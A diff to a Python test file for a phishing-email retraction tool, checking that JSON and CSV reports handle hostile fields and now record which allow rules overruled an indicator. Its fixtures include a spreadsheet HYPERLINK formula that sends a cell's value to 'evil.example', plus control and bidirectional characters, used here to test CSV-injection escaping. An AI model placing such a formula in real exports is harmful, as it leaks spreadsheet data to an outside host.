@@ -15,6 +15,7 @@ from retract.model import State
 from retract.reports.html import MAX_ROWS, headline
 from retract.reports.model import ReportSummary, RunReport
 from retract.reports.write import COLUMNS, render_csv, render_json, summary_of, write_report
+from retract.retraction.plan import SkipReason
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
 HOSTILE = f'{FORMULA};@SUM(A1),"quoted"\r\nnew line \u202e and \x00'
@@ -22,10 +23,23 @@ HOSTILE = f'{FORMULA};@SUM(A1),"quoted"\r\nnew line \u202e and \x00'
 
 @pytest.fixture
 def hostile(
-    planned: Any, skipped: Any, because: Any, make_plan: Any, outcome: Any, report: Any
+    planned: Any,
+    skipped: Any,
+    because: Any,
+    overruled: Any,
+    make_plan: Any,
+    outcome: Any,
+    report: Any,
 ) -> RunReport:
     reasons = (because(indicator=FORMULA, campaign=HOSTILE, source="-list"),)
-    fields = {"subject": HOSTILE, "sender": FORMULA, "mailbox": FORMULA, "reasons": reasons}
+    beaten = (overruled(indicator=FORMULA, rule="=rule", rule_reason=HOSTILE),)
+    fields = {
+        "subject": HOSTILE,
+        "sender": FORMULA,
+        "mailbox": FORMULA,
+        "reasons": reasons,
+        "overruled": beaten,
+    }
     copies = [planned(number, **fields) for number in range(2)]
     outcomes = [outcome(copies[0]), outcome(copies[1], State.FAILED, reason=HOSTILE)]
     made: RunReport = report(make_plan(copies, [skipped(9, **fields)]), outcomes)
@@ -37,7 +51,7 @@ def test_json_is_exact(hostile: RunReport) -> None:
     assert text.isascii()
     assert RunReport.model_validate_json(text) == hostile
     assert json.loads(text)["copies"][0]["subject"] == HOSTILE
-    assert json.loads(text)["format"] == 1
+    assert json.loads(text)["format"] == 2
 
 
 @pytest.mark.parametrize("separator", [",", ";"])
@@ -61,6 +75,23 @@ def test_csv_has_every_copy_and_its_matches(hostile: RunReport) -> None:
     assert table["place_now"][1] == "trash (Deleted Items)"
     assert table["indicators"][0] == "'" + FORMULA
     assert list(table["matches"]) == [1, 1, 1]
+
+
+def test_csv_tells_what_was_overruled_by_which_rule_and_why(
+    planned: Any, skipped: Any, overruled: Any, make_plan: Any, report: Any
+) -> None:
+    beaten = (overruled(), overruled(indicator="login.evil.example"))
+    copies = [skipped(1, SkipReason.ALLOWED, reasons=(), overruled=beaten), skipped(2)]
+    table = pd.read_csv(
+        io.StringIO(render_csv(report(make_plan([planned(3, overruled=beaten)], copies)))),
+        keep_default_na=False,
+    )
+    said = "https://login.evil.example/ | login.evil.example"
+    assert list(table["overruled"]) == [said, said, ""]
+    allowed = "https://login.evil.example/: our own training page"
+    assert list(table["allowed_by"]) == [allowed, allowed, ""]
+    assert list(table["note"][1:]) == ["allowed", "already_done"]
+    assert list(table["matches"]) == [1, 0, 1]
 
 
 def test_csv_has_what_the_page_leaves_out(planned: Any, make_plan: Any, report: Any) -> None:
